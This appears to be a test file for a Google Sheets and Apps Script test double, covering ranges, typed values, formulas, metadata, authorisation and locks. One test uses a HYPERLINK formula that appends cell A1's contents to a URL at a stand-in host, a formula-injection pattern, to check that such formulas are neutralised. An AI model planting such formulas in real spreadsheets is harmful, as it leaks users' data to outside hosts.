/** Tests of the Sheets double's own behaviour: ranges, typed values, formulas, the call log, metadata, conditional formats, authorisation. */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { createDouble, readManifest } from '.';

const manifest = readManifest(join(import.meta.dirname, '..', '..', 'apps-script', 'appsscript.json'));

import { evaluateFormula, parseFormula } from './formula';

const make = () => createDouble({ distDir: '/nonexistent', manifest, today: '2023-01-15' });
// biome-ignore lint/suspicious/noExplicitAny: the double's globals are untyped stand-ins for Google's services
type AnyApi = any;

describe('the Google services double', () => {
  it('uses 1-based ranges and throws Apps Script’s dimension errors', () => {
    const d = make();
    const app = d.globals.SpreadsheetApp as AnyApi;
    const sheet = app.getActiveSpreadsheet().getSheets()[0];
    sheet.getRange(2, 3, 1, 2).setValues([['a', 'b']]);
    expect(sheet.getRange('C2').getValue()).toBe('a');
    expect(sheet.getLastRow()).toBe(2);
    expect(sheet.getLastColumn()).toBe(4);
    expect(() => sheet.getRange(1, 1, 2, 2).setValues([['x', 'y']])).toThrow(
      'The number of rows in the data does not match the number of rows in the range. The data has 1 but the range has 2.',
    );
    expect(() => sheet.getRange(1, 1, 1, 2).setValues([['x']])).toThrow(/number of columns in the data/);
    expect(() => sheet.getRange(0, 1)).toThrow();
  });

  it('keeps Date cells as Dates, converts typed numbers and dates as Sheets does, keeps apostrophe text', () => {
    const d = make();
    const sheet = (d.globals.SpreadsheetApp as AnyApi).getActiveSpreadsheet().getSheets()[0];
    sheet.getRange(1, 1, 1, 4).setValues([[new Date(2023, 0, 2), '12', '10.11.2022', "'=1+1"]]);
    const [v] = sheet.getRange(1, 1, 1, 4).getValues();
    expect(v[0]).toBeInstanceOf(Date);
    expect(v[1]).toBe(12);
    expect(v[2].getDate()).toBe(10);
    expect(v[3]).toBe('=1+1');
  });

  it('takes text beginning with «=» for a formula, unless an apostrophe (not part of the value) makes it text', () => {
    const d = make();
    const sheet = (d.globals.SpreadsheetApp as AnyApi).getActiveSpreadsheet().getSheets()[0];
    const link = '=HYPERLINK("http://x.example/?"&A1;"y")';
    sheet.getRange(1, 1, 1, 4).setValues([['=1+1', link, `'${link}`, "''цитата"]]);
    expect(sheet.getRange(1, 1, 1, 4).getFormulas()).toEqual([['=1+1', link, '', '']]);
    expect(sheet.getRange(1, 1, 1, 4).getValues()).toEqual([[2, '#ERROR!', link, "'цитата"]]);
    // Written back as read, the text turns into a live formula: the add-on must re-neutralise it.
    sheet.getRange(1, 3).setValue(sheet.getRange(1, 3).getValue());
    expect(sheet.getRange(1, 3).getFormula()).toBe(link);
  });

  it('counts every call per service method', () => {
    const d = make();
    const app = d.globals.SpreadsheetApp as AnyApi;
    const sheet = app.getActiveSpreadsheet().getSheets()[0];
    sheet.getRange(1, 1).setValue('x');
    sheet.getRange(1, 1).getValues();
    expect(d.log.count('Range.')).toBe(2);
    expect(d.log.count('Sheet.getRange')).toBe(2);
    expect(d.log.count('SpreadsheetApp.getActiveSpreadsheet')).toBe(1);
  });

  it('moves column metadata with its column and drops it with a deleted column', () => {
    const d = make();
    const sheet = d.spreadsheet._sheets[0]!;
    const view = sheet._view() as unknown as AnyApi;
    view.getRange('B:B').addDeveloperMetadata('k', 'b');
    view.getRange('C:C').addDeveloperMetadata('k', 'c');
    sheet.moveColumns(sheet._range(1, 2, 1000, 1), 5);
    const where = () =>
      Object.fromEntries(
        d.spreadsheet._metadata.map((m) => [m.value, 'column' in m.location ? m.location.column : 0]),
      );
    expect(where()).toEqual({ b: 4, c: 2 });
    sheet.deleteColumn(2);
    expect(where()).toEqual({ b: 3 });
  });

  it('evaluates conditional-format formulas relative to the rule’s top-left cell, with a settable TODAY()', () => {
    const node = parseFormula('=AND($A2<>"",ISNUMBER($B2),$B2-TODAY()<=14)+N("x")');
    const cells: Record<string, unknown> = { '3:1': 'x', '3:2': 45000 };
    const ctx = (today: number) => ({
      cell: (r: number, c: number) => (cells[`${r}:${c}`] as never) ?? null,
      today: () => today,
    });
    expect(evaluateFormula(node, ctx(44990), { rows: 1, columns: 0 })).toBe(1);
    expect(evaluateFormula(node, ctx(44980), { rows: 1, columns: 0 })).toBe(0);
    expect(evaluateFormula(node, ctx(44990), { rows: 0, columns: 0 })).toBe(0);
  });

  it('forbids properties and the document before authorisation', () => {
    const d = createDouble({ distDir: '/x', manifest, authMode: 'NONE' });
    expect(() => (d.globals.PropertiesService as AnyApi).getDocumentProperties()).toThrow(/permission/);
    expect(() => (d.globals.SpreadsheetApp as AnyApi).getActiveSpreadsheet()).toThrow(/permission/);
    expect(() => (d.globals.SpreadsheetApp as AnyApi).getUi()).not.toThrow();
  });

  it('models a held lock: another execution waits, times out, and gets it once released', () => {
    const d = make();
    const locks = d.globals.LockService as AnyApi;
    d.locks.execution = 'a';
    const a = locks.getDocumentLock();
    expect(a.tryLock(1000)).toBe(true);
    d.locks.execution = 'b';
    const b = locks.getDocumentLock();
    const t0 = d.clock.now();
    expect(b.tryLock(5000)).toBe(false);
    expect(d.clock.now() - t0).toBe(5000);
    d.locks.document.onContention = (state) => {
      state.holder = null;
    };
    expect(b.tryLock(5000)).toBe(true);
    expect(d.locks.document.waits.map((w) => w.got)).toEqual([false, true]);
  });
});
